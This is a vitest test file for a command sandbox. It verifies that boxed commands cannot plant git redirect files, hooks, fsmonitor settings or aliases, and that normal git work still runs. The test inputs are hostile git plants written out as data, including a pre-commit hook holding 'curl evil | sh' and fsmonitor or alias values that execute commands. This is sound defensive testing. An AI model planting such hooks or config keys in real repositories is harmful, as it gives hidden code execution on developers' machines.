import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const base = fs.realpathSync(os.tmpdir());
const dataDir = fs.mkdtempSync(path.join(base, "ar-sbxgit-data-"));
process.env.AGENT_REACH_DATA_DIR = dataDir;

const { runCommand } = await import("@/lib/exec/run-command");
const { resetSandboxStatus, sandboxStatus } = await import("@/lib/exec/sandbox");

/**
 * git's redirect files that do not exist yet (`commondir`, `config.worktree`, `objects/info/
 * alternates`, `http-alternates`) cannot be planted through the box, with capture (a read-only
 * placeholder inside the box) and without (moved out when the command ends); nothing is ever
 * created in the real `.git` for it. `git init` at a workspace root without `.git` works, and
 * the new repository is protected from the next command on. Real bwrap, real git, real overlays.
 */

const REDIRECTS = [".git/commondir", ".git/config.worktree", ".git/objects/info/alternates", ".git/objects/info/http-alternates", ".git/info/attributes"];
const home = path.join(dataDir, "home");
const env = { PATH: "/usr/bin:/bin", HOME: home, LANG: "C.UTF-8", GIT_CONFIG_NOSYSTEM: "1" };
const made: string[] = [];

function newRepo(): string {
  const ws = fs.mkdtempSync(path.join(base, "ar-sbxgit-ws-"));
  made.push(ws);
  execFileSync("git", ["init", "-q", "-b", "main"], { cwd: ws });
  fs.writeFileSync(path.join(ws, "a.txt"), "one\n");
  execFileSync("git", ["add", "a.txt"], { cwd: ws });
  execFileSync("git", ["-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "one"], { cwd: ws });
  return ws;
}

/** Runs `command` boxed in `ws`, captured on an overlay when `capture` (returns the upper directory too). */
async function run(ws: string, command: string, capture: boolean) {
  const capDir = capture ? fs.mkdtempSync(path.join(dataDir, "cap-")) : null;
  const result = await runCommand({
    command,
    cwd: ws,
    timeoutMs: 30_000,
    maxOutputChars: 20_000,
    env,
    sandbox: { workspaceRoot: ws, home, network: false },
    ...(capDir && { capture: { dir: capDir } }),
  });
  return { result, upper: capDir ? path.join(capDir, "upper") : null };
}

/** Every path below `dir` (relative), sorted; empty when it does not exist. */
function tree(dir: string | null): string[] {
  if (!dir || !fs.existsSync(dir)) return [];
  return (fs.readdirSync(dir, { recursive: true }) as string[]).map(String).sort();
}

beforeAll(() => {
  fs.mkdirSync(home, { recursive: true });
  fs.writeFileSync(path.join(home, ".gitconfig"), "[user]\n\temail = agent@example.test\n\tname = agent\n");
  resetSandboxStatus();
  expect(sandboxStatus().available).toBe(true);
});

afterAll(() => {
  for (const d of made) fs.rmSync(d, { recursive: true, force: true });
  fs.rmSync(dataDir, { recursive: true, force: true });
});

const plants = [
  `echo ../evil > .git/commondir`,
  `printf '/tmp/evil' > .git/commondir`,
  `python3 -c "open('.git/commondir','w').write('../evil')"`,
  `echo ../evil > /tmp/cd && mv -f /tmp/cd .git/commondir`,
  `echo ../evil > /tmp/cd && cp /tmp/cd .git/commondir`,
  `ln -s /tmp/evil .git/commondir`,
  `rm -f .git/commondir; echo ../evil > .git/commondir`,
  `(cd .git && echo ../evil > commondir)`,
  `echo '* filter=evil' > .git/info/attributes`,
  `mv .git/info .git/info-old; mkdir .git/info && echo '* filter=evil' > .git/info/attributes`,
  `printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config.worktree`,
  `git config --file .git/config.worktree core.fsmonitor evil`,
  `echo /tmp/objects > .git/objects/info/alternates`,
  `echo http://evil > .git/objects/info/http-alternates`,
  `mv .git/objects/info .git/objects/info-old; mkdir -p .git/objects/info && echo /tmp > .git/objects/info/alternates`,
  `mv .git/objects .git/objects-old && mkdir -p .git/objects/info && echo /tmp > .git/objects/info/alternates`,
  `mv .git .git-old && mkdir .git && echo ../evil > .git/commondir`,
];

describe("with capture: a missing redirect file cannot be created inside the box", () => {
  let ws: string;
  beforeAll(() => {
    ws = newRepo();
  });

  it.each(plants)("%s", async (command) => {
    const { result, upper } = await run(ws, `${command} 2>&1; git status --short >/dev/null && echo git-ok`, true);
    expect(result.stdout).toContain("git-ok"); // git still works inside, placeholders and all
    for (const rel of REDIRECTS) {
      expect(fs.existsSync(path.join(ws, rel)) || fs.existsSync(path.join(upper!, rel)), rel).toBe(false);
      let isLink = false;
      try {
        isLink = fs.lstatSync(path.join(upper!, rel)).isSymbolicLink();
      } catch {
        /* absent */
      }
      expect(isLink, rel).toBe(false);
    }
    expect(tree(upper)).not.toContain(path.join(".git", "commondir"));
    expect(fs.existsSync(path.join(upper!, ".git-old"))).toBe(false);
    // The real workspace never got a mount point.
    for (const rel of REDIRECTS) expect(fs.existsSync(path.join(ws, rel)), rel).toBe(false);
  });

  it("the placeholders leave no trace in the change set of ordinary work", async () => {
    const { result, upper } = await run(ws, "echo two >> a.txt && git add a.txt && git commit -qm two && git log --oneline | wc -l", true);
    expect(result.exit_code, result.stderr).toBe(0);
    expect(result.stdout.trim()).toBe("2");
    const changed = tree(upper);
    for (const rel of REDIRECTS) expect(changed).not.toContain(rel);
    expect(changed).toContain("a.txt");
  });
});

describe("without capture: a redirect file the command created is moved out when it ends", () => {
  let ws: string;
  beforeAll(() => {
    ws = newRepo();
  });

  it.each(plants)("%s", async (command) => {
    const { result } = await run(ws, `${command} 2>&1; echo done`, false);
    expect(result.stdout).toContain("done");
    for (const rel of REDIRECTS) {
      let present = false;
      try {
        fs.lstatSync(path.join(ws, rel));
        present = true;
      } catch {
        /* absent */
      }
      expect(present, rel).toBe(false);
    }
    // Put back what a spelling moved away, for the next one.
    for (const [moved, orig] of [[".git-old", ".git"], [".git/objects-old", ".git/objects"], [".git/objects/info-old", ".git/objects/info"], [".git/info-old", ".git/info"]]) {
      if (fs.existsSync(path.join(ws, moved))) {
        fs.rmSync(path.join(ws, orig), { recursive: true, force: true });
        fs.renameSync(path.join(ws, moved), path.join(ws, orig));
      }
    }
    execFileSync("git", ["status", "--short"], { cwd: ws });
  });

  it("says what it moved, and keeps it (nothing is lost); the command's other writes stay", async () => {
    const { result } = await run(ws, "echo ../evil > .git/commondir; echo kept > kept.txt", false);
    expect(result.sandbox.removed).toEqual([expect.objectContaining({ path: ".git/commondir" })]);
    expect(result.stderr).toMatch(/moved out of the workspace after the command: \.git\/commondir/);
    expect(fs.readFileSync(path.join(ws, "kept.txt"), "utf8")).toBe("kept\n");
    const quarantine = path.join(dataDir, "sandbox", "quarantine");
    const kept = fs.readdirSync(quarantine).map((d) => path.join(quarantine, d, ".git", "commondir")).filter((f) => fs.existsSync(f));
    expect(kept.map((f) => fs.readFileSync(f, "utf8"))).toContain("../evil\n");
    execFileSync("git", ["status", "--short"], { cwd: ws }); // the real repository still works
  });
});

describe.each([
  ["without capture", false],
  ["with capture", true],
])("real git work keeps working in the box (%s)", (_name, capture) => {
  it("add, commit, stash, checkout -b, rebase, gc", async () => {
    const ws = newRepo();
    const { result, upper } = await run(
      ws,
      [
        "echo two >> a.txt && git add a.txt && git commit -qm two",
        "echo wip >> a.txt && git stash -q && git stash list | wc -l && git stash pop -q && git commit -qam three",
        "git checkout -qb feature HEAD~1 && echo f > f.txt && git add f.txt && git commit -qm feature",
        "git rebase -q main && git log --oneline | wc -l",
        "git gc -q && git fsck --no-progress 2>&1 | grep -v dangling; git status --short | wc -l",
      ].join(" && "),
      capture,
    );
    expect(result.stderr).toBe("");
    expect(result.exit_code).toBe(0);
    expect(result.stdout.split("\n").filter(Boolean)).toEqual(["1", "4", "0"]);
    for (const rel of REDIRECTS) {
      expect(fs.existsSync(path.join(ws, rel)), rel).toBe(false);
      if (upper) expect(fs.existsSync(path.join(upper, rel)), rel).toBe(false);
    }
  }, 60_000);
});

describe("git init at a workspace root without .git", () => {
  it.each([
    ["without capture", false],
    ["with capture", true],
  ])("works (%s), and the next command finds the new repository protected", async (_name, capture) => {
    const ws = fs.mkdtempSync(path.join(base, "ar-sbxgit-init-"));
    made.push(ws);
    fs.writeFileSync(path.join(ws, "a.txt"), "a\n");
    const { result, upper } = await run(ws, "git init -q -b main && git add a.txt && git commit -qm first && git log --oneline | wc -l", capture);
    expect(result.stderr).toBe("");
    expect(result.stdout.trim()).toBe("1");
    if (upper) {
      // The overlay holds the new repository; put it in place as applying the change set would.
      fs.cpSync(path.join(upper, ".git"), path.join(ws, ".git"), { recursive: true, verbatimSymlinks: true });
    }
    expect(execFileSync("git", ["log", "--oneline"], { cwd: ws, encoding: "utf8" })).toMatch(/first/);
    expect(result.sandbox.removed ?? []).toEqual([]); // a plain git init plants nothing
    const next = await run(ws, "git status --short >/dev/null && echo git-ok; echo evil > .git/hooks/pre-commit; git config core.fsmonitor evil; echo ../e > .git/commondir", false);
    expect(next.result.stdout).toContain("git-ok");
    expect(next.result.stderr).toMatch(/Read-only file system/);
    expect(fs.existsSync(path.join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(fs.readFileSync(path.join(ws, ".git", "config"), "utf8")).not.toContain("fsmonitor");
    expect(fs.existsSync(path.join(ws, ".git", "commondir"))).toBe(false);
  });

  it.each([
    ["a hook", "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", ".git/hooks/pre-commit"],
    ["a risky config key", "git config core.fsmonitor 'touch /tmp/pwned'", ".git/config"],
    ["an alias", "git config alias.st '!sh -c evil'", ".git/config"],
    ["attributes", "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes", ".git/info/attributes"],
    ["a commondir", "echo ../evil > .git/commondir", ".git/commondir"],
    ["a worktree entry", "mkdir -p .git/worktrees/w && echo ../.. > .git/worktrees/w/commondir", ".git/worktrees"],
  ])("in the same command, without capture: %s planted in the new repository is moved out", async (_name, plant, rel) => {
    const ws = fs.mkdtempSync(path.join(base, "ar-sbxgit-init-"));
    made.push(ws);
    const { result } = await run(ws, `git init -q -b main && ${plant}; echo done`, false);
    expect(result.stdout).toContain("done");
    expect(result.sandbox.removed?.map((r) => r.path)).toContain(rel);
    expect(fs.existsSync(path.join(ws, rel))).toBe(false);
    expect(fs.existsSync(path.join(ws, ".git", "HEAD"))).toBe(true); // the repository itself stays
    execFileSync("git", ["status", "--short"], { cwd: ws, env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1" } });
  });

  it("a .git file written at the root (pointing elsewhere) is moved out", async () => {
    const ws = fs.mkdtempSync(path.join(base, "ar-sbxgit-init-"));
    made.push(ws);
    const { result } = await run(ws, "echo 'gitdir: /tmp/evil' > .git; echo done", false);
    expect(result.stdout).toContain("done");
    expect(result.sandbox.removed?.map((r) => r.path)).toEqual([".git"]);
    expect(fs.existsSync(path.join(ws, ".git"))).toBe(false);
  });
});
